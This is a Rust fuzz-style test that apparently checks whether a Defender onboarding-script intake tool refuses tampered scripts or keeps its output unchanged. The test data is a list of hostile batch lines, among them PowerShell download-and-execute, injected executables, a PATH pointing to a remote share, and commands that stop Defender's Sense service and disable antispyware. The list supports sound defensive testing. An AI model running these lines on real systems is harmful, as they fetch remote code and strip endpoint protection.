//! Ten thousand edits of a portal script, drawn the same on every run: each is refused, or gives
//! the very manifest and payload that the untouched script gives.

use std::collections::BTreeMap;

use gangway_contract::Sha256;
use gangway_contract::manifest::{ApplyMethod, Manifest, Mode};
use gangway_fixtures::blob::{BlobSpec, ORG_ID};
use gangway_fixtures::lab;
use gangway_fixtures::mutate::find;
use gangway_fixtures::script::{ScriptSpec, escape_for_cmd};
use rayon::prelude::*;

use super::build::compose_manifest;
use super::config::Config;
use super::inputs::target;
use super::payloads::{self, Choices};
use crate::intake::{self, IntakeSettings, TrustSettings};
use crate::problem::Problem;

/// Edits of each kind.
const EACH: u64 = 400;

/// The kind of edit that leaves a genuine package of another tenant.
const ANOTHER_PACKAGE: &str = "another tenant's blob instead";

/// What an edit may end in.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Outcome {
    Refused,
    Same,
}

/// Lines that somebody puts into a script; each kind was accepted and run by a reader that
/// judged lines.
const LINES: [(&str, &[&str]); 12] = [
    (
        "program behind a condition",
        &[
            "if errorlevel=0 cmd.exe /c mkdir C:\\by-system",
            "if 1==1,C:\\evil\\evil.exe",
            "if;1==1;C:\\evil\\evil.exe",
            "if 1^\"==1^\" C:\\evil\\evil.exe",
            "if exist C:\\(C:\\evil\\evil.exe)",
            "if cmdextversion 1 C:\\evil\\evil.exe",
        ],
    ),
    (
        "program behind a variable",
        &[
            "set \"x=y&mkdir C:\\by-variable\"\r\necho %x% >NUL",
            "setlocal enabledelayedexpansion\r\n!x!",
            "call %%x%%",
        ],
    ),
    (
        "program behind for",
        &[
            "for /f \"delims=(\" %%i in (C:\\x.txt) do C:\\evil\\evil.exe %%i",
            "for /f %%i in ('C:\\evil\\evil.exe') do rem",
        ],
    ),
    (
        "tools from elsewhere",
        &[
            "set PATH=\\\\198.51.100.1\\s;%PATH%",
            "set windir=C:\\evil",
            "set PROGRAMFILES=C:\\evil",
        ],
    ),
    (
        "written program",
        &[
            "set TMP=C:\\startup\r\necho evil.exe> %TMP%\\a.bat",
            "echo x>\"%windir%\\System32\\drivers\\etc\\hosts\"",
        ],
    ),
    (
        "powershell",
        &[
            "powershell -Command \"iwr http://x/a; start a #InstallELAMCertificateInfo\"",
            "powershell -nop -c \"iwr http://x.contoso.com/a|iex\"",
        ],
    ),
    ("lone carriage return", &["rem hello\rC:\\evil\\evil.exe"]),
    (
        "undoing",
        &[
            "net stop sense",
            "reg delete \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Advanced Threat Protection\" /f",
            "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
        ],
    ),
    (
        "signals",
        &["ping 198.51.100.1", "type \\\\server\\share\\x"],
    ),
    ("redirection first", &[">NUL C:\\evil\\evil.exe"]),
    ("caret", &["rem ^\r\n\"C:\\evil\\evil.exe", "ec^ho x"]),
    ("path behind echo", &["echo/..\\..\\evil.exe"]),
];

/// Numbers that are the same on every run (Knuth's generator of 64 bits).
struct Draw(u64);

impl Draw {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % limit
    }

    fn one<T: Copy>(&mut self, all: &[T]) -> T {
        all[self.below(all.len())]
    }
}

/// The good script, and where its blob's line and its blob stand.
struct Good {
    script: Vec<u8>,
    line: core::ops::Range<usize>,
    blob: core::ops::Range<usize>,
}

impl Good {
    fn new() -> Self {
        let script = ScriptSpec::default().bytes();
        let blob = escape_for_cmd(&BlobSpec::default().json());
        let start = find(&script, blob.as_bytes()).unwrap();
        let before = script[..start].iter().rposition(|&byte| byte == b'\n');
        let after = script[start..].iter().position(|&byte| byte == b'\n');
        Self {
            line: before.unwrap() + 1..start + after.unwrap() + 1,
            blob: start..start + blob.len(),
            script,
        }
    }

    /// The script with a text before a line that is not the blob's own.
    fn with(&self, text: &[u8], draw: &mut Draw) -> Vec<u8> {
        let starts: Vec<usize> = (1..self.script.len())
            .filter(|&at| self.script[at - 1] == b'\n')
            .collect();
        let at = draw.one(&starts);
        [&self.script[..at], text, b"\r\n", &self.script[at..]].concat()
    }

    /// The script with another text in place of its blob.
    fn with_blob(&self, json: &str) -> Vec<u8> {
        let escaped = escape_for_cmd(json);
        let Self { script, blob, .. } = self;
        [
            &script[..blob.start],
            escaped.as_bytes(),
            &script[blob.end..],
        ]
        .concat()
    }

    /// A place outside the blob's line.
    fn outside(&self, draw: &mut Draw) -> usize {
        let at = draw.below(self.script.len() - self.line.len());
        if at < self.line.start {
            at
        } else {
            at + self.line.len()
        }
    }
}

/// A command that writes a blob, its arguments in one of many orders.
fn second_write(json: &str, draw: &mut Draw) -> Vec<u8> {
    let data = format!("/d \"{}\"", escape_for_cmd(json));
    let mut arguments = ["/f", "/t REG_SZ", "/v OnboardingInfo", data.as_str()];
    for at in (1..arguments.len()).rev() {
        arguments.swap(at, draw.below(at + 1));
    }
    let key = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Advanced Threat Protection";
    let tool = draw.one(&["reg add", "REG  ADD", "%windir%\\System32\\reg.exe add"]);
    format!("{tool} \"{key}\" {}", arguments.join(" ")).into_bytes()
}

/// One edit of a kind.
type Edit = fn(&Good, &mut Draw) -> Vec<u8>;

/// Edits of other kinds than a line that is put in, and the only outcome each may have; none
/// where both are right.
const EDITS: [(&str, Edit, Option<Outcome>); 14] = [
    (
        "another tenant's blob beside",
        |good, draw| good.with(&second_write(&BlobSpec::other_tenant().json(), draw), draw),
        Some(Outcome::Refused),
    ),
    (
        "an offboarding blob beside",
        |good, draw| {
            let other = BlobSpec::offboarding(2_521_929_600).json();
            good.with(&second_write(&other, draw), draw)
        },
        Some(Outcome::Refused),
    ),
    (
        "another tenant's blob beside, not escaped",
        |good, draw| good.with(BlobSpec::other_tenant().json().as_bytes(), draw),
        Some(Outcome::Refused),
    ),
    (
        "the same blob written again",
        |good, draw| good.with(&second_write(&BlobSpec::default().json(), draw), draw),
        Some(Outcome::Same),
    ),
    (
        ANOTHER_PACKAGE,
        |good, _| good.with_blob(&BlobSpec::other_tenant().json()),
        Some(Outcome::Refused),
    ),
    (
        "a byte of the blob",
        |good, draw| {
            let mut script = good.script.clone();
            let at = good.blob.start + draw.below(good.blob.len());
            script[at] ^= 1 << draw.below(8);
            script
        },
        None,
    ),
    (
        "a byte around the blob",
        |good, draw| {
            let mut script = good.script.clone();
            script[good.outside(draw)] ^= 1 << draw.below(8);
            script
        },
        None,
    ),
    (
        "blanks and order of the outer document",
        |good, draw| {
            let outer: serde_json::Value =
                serde_json::from_str(&BlobSpec::default().json()).unwrap();
            let mut fields: Vec<_> = outer.as_object().unwrap().iter().collect();
            for at in (1..fields.len()).rev() {
                fields.swap(at, draw.below(at + 1));
            }
            let fields: Vec<String> = fields
                .into_iter()
                .map(|(name, value)| format!("\"{name}\"{}{value}", draw.one(&[":", " : "])))
                .collect();
            good.with_blob(&format!("{{{}}}", fields.join(draw.one(&[",", " , "]))))
        },
        Some(Outcome::Same),
    ),
    (
        "a field more in the outer document",
        |good, draw| {
            let json = BlobSpec::default().json();
            let name = draw.one(&["body", "sig", "cert", "note", "\\u0062ody"]);
            let at = draw.one(&["\"sig\"", "\"sha256sig\"", "\"cert\"", "\"chain\""]);
            good.with_blob(&json.replacen(at, &format!("\"{name}\":\"x\",{at}"), 1))
        },
        Some(Outcome::Refused),
    ),
    (
        "cut",
        |good, draw| good.script[..draw.below(good.script.len() - 1) + 1].to_vec(),
        None,
    ),
    (
        "blob wrapped",
        |good, draw| {
            let at = good.blob.start + 10 + draw.below(good.blob.len() - 20);
            let (before, after) = good.script.split_at(at);
            [before, draw.one(&["\r\n", "\n"]).as_bytes(), after].concat()
        },
        None,
    ),
    (
        "saved as UTF-16",
        |good, draw| {
            let text = String::from_utf8(good.script.clone()).unwrap();
            let mark: &[u8] = draw.one(&[b"\xFF\xFE".as_slice(), b""]);
            let units = text.encode_utf16().flat_map(u16::to_le_bytes);
            [mark, &units.collect::<Vec<u8>>()].concat()
        },
        Some(Outcome::Same),
    ),
    (
        "strange end",
        |good, draw| {
            let tail = vec![draw.one(&[0, 0x1A]); draw.below(600) + 1];
            [good.script.as_slice(), &tail].concat()
        },
        Some(Outcome::Same),
    ),
    (
        "bytes of another code page that end in a quote",
        |good, draw| {
            let text = b"rem \x95\x5C\"\" C:\\evil\\evil.exe \x83\x5C\"";
            good.with(text, draw)
        },
        Some(Outcome::Same),
    ),
];

const CONFIG: &str = r#"
[organization]
name = "Contoso"
[downloads]
paths = ["downloads"]
[share]
root = '\\files.contoso.com\gangway$'
[[gpo.domain]]
dns_name = "contoso.com"
"#;

/// What a build would give to servers; none when the script is refused.
fn manifest(script: &[u8], settings: &IntakeSettings) -> Option<(Manifest, Vec<u8>)> {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("script.cmd"), script).unwrap();
    let inspection = intake::inspect(&[folder.path().to_owned()], settings);
    let choices = Choices {
        mode: Mode::Onboard,
        apply: ApplyMethod::Native,
        accept_scripts: &[],
        monitoring_agent: false,
    };
    let (selected, missing) = payloads::select(&inspection, &choices);
    let mut problems = inspection.all_problems().chain(&missing);
    if problems.any(Problem::is_error) {
        return None;
    }
    let config = Config::parse(CONFIG, std::path::Path::new("gangway.toml")).unwrap();
    let target = target(&inspection, choices.mode, choices.apply)?;
    let roots = &settings.lab_roots;
    let stub = Sha256::of(b"stub");
    let manifest = compose_manifest(&config, choices.mode, target, &selected, None, roots, stub);
    let blob = selected.iter().find_map(|one| one.blob)?;
    Some((manifest, blob.expose().as_bytes().to_vec()))
}

fn settings() -> IntakeSettings {
    IntakeSettings {
        lab_roots: vec![lab::root_der()],
        org_id: Some(ORG_ID.parse().unwrap()),
        trust: TrustSettings {
            lab_root_counts_as_microsoft: true,
            ..TrustSettings::default()
        },
        ..IntakeSettings::at(1_795_305_600)
    }
}

/// The edit with this number of a kind.
fn edit(kind: usize, number: u64, good: &Good) -> (&'static str, Vec<u8>, Option<Outcome>) {
    let mut draw = Draw((kind as u64) << 32 | number);
    for _ in 0..8 {
        draw.below(2);
    }
    if let Some((name, lines)) = LINES.get(kind) {
        let line = draw.one(lines).as_bytes();
        return (name, good.with(line, &mut draw), Some(Outcome::Same));
    }
    let (name, edit, only) = &EDITS[kind - LINES.len()];
    (name, edit(good, &mut draw), *only)
}

#[test]
fn ten_thousand_edits_are_refused_or_change_nothing_that_a_server_gets() {
    let good = Good::new();
    let settings = settings();
    // A package of another tenant as a whole is refused by the pin; all else must be without it.
    let unpinned = IntakeSettings {
        org_id: None,
        ..settings.clone()
    };
    let untouched = manifest(&good.script, &settings).unwrap();
    let kinds = LINES.len() + EDITS.len();
    let outcomes: Vec<(&str, Outcome)> = (0..kinds as u64 * EACH)
        .into_par_iter()
        .map(|index| {
            let kind = usize::try_from(index / EACH).unwrap();
            let (name, script, only) = edit(kind, index % EACH, &good);
            let by = if name == ANOTHER_PACKAGE {
                &settings
            } else {
                &unpinned
            };
            let outcome = match manifest(&script, by) {
                None => Outcome::Refused,
                Some(found) if found == untouched => Outcome::Same,
                // Named by its number alone: a blob must not stand in a message.
                Some(_) => panic!("`{name}`, edit {index}: another manifest or payload"),
            };
            if let Some(only) = only {
                assert_eq!(outcome, only, "`{name}`, edit {index}");
            }
            (name, outcome)
        })
        .collect();
    let mut counts: BTreeMap<&str, [usize; 2]> = BTreeMap::new();
    for (name, outcome) in &outcomes {
        counts.entry(name).or_default()[usize::from(*outcome == Outcome::Same)] += 1;
    }
    let table: Vec<String> = counts
        .iter()
        .map(|(name, [refused, same])| format!("{refused:4} refused  {same:4} same  {name}"))
        .collect();
    insta::assert_snapshot!(table.join("\n"));
    assert!(outcomes.len() >= 10_000);
}
